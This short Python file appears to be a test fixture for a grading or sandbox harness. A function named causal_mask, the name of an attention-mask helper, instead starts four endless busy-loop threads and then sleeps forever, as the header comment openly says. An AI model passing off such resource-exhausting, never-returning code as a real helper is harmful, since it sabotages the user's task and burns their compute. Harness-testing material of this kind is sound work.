# Leaves threads that compute for ever.
# credit: none
import threading
import time

import numpy as np


def busy():
    while True:
        pass


def causal_mask(T):
    for _ in range(4):
        threading.Thread(target=busy, daemon=True).start()
    while True:
        time.sleep(1)
